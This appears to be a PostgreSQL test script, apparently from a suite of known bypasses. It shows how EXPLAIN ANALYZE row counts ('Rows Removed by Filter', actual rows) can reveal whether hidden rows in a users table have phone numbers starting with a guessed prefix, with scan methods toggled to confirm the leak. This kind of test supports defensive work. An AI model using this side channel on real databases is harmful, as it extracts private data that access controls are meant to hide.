-- what: EXPLAIN ANALYZE counts what filters removed and indexes found, and so tells whether a hidden row fulfils a guess
-- known: bypasses.md: EXPLAIN ANALYZE "Rows Removed by Filter"
-- purpose: service
CREATE FUNCTION counts(guess text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    line text;
    answer text := '';
BEGIN
    FOR line IN EXECUTE format('EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF, SUMMARY OFF, BUFFERS OFF) SELECT 1 FROM users WHERE phone LIKE %L', guess)
    LOOP
        answer := answer || coalesce(substring(line from 'Rows Removed.*|actual rows=\d+|Heap.*'), '') || ';';
    END LOOP;
    RETURN answer;
END $$;
SELECT 'LEAKED: one begins with 1390' WHERE counts('1390%') <> counts('1391%');
SET enable_seqscan = off;
SELECT 'LEAKED: one begins with 1390' WHERE counts('1390%') <> counts('1391%');
SET enable_indexscan = off;
SET enable_indexonlyscan = off;
SELECT 'LEAKED: one begins with 1390' WHERE counts('1390%') <> counts('1391%');
